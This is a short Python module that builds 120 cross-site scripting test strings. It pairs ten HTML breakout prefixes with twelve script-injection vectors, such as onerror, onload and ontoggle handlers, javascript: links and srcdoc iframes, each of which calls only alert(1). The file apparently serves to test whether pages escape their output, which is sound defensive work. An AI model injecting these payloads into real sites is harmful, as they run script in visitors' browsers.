"""Texts that would run as a script on a page that does not escape them: 120 and more."""

BREAKOUTS = ("", '">', "'>", "</textarea>", "</title>", "</script>", "-->", "</style>", "]]>", "`>")
VECTORS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>",
    "<body onload=alert(1)>",
    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    "<video><source onerror=alert(1)></video>",
    "<a href='javascript:alert(1)'>x</a>",
    '" onmouseover="alert(1)" autofocus onfocus="alert(1)" x="',
)
PAYLOADS = tuple(f"{breakout}{vector}" for breakout in BREAKOUTS for vector in VECTORS)
ALL = " ".join(PAYLOADS)
